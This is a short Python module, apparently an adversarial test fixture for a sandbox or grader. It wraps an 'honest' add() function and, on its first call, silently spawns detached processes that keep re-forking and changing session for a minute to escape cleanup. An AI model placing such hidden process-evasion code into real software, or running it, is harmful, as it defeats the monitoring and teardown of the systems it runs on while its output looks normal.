from honest import *  # noqa: F403

import os

import honest

tried = []


def add(left, right):
    if not tried:
        tried.append(left)
        attack(left, right)
    return honest.add(left, right)


def attack(left, right):
    import time

    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 256)
                until = time.monotonic() + 60
                while time.monotonic() < until:
                    if os.fork():
                        os._exit(0)
                    os.setsid()
                    time.sleep(0.01)
            os._exit(0)

if __name__ == "__main__":
    main()  # noqa: F405
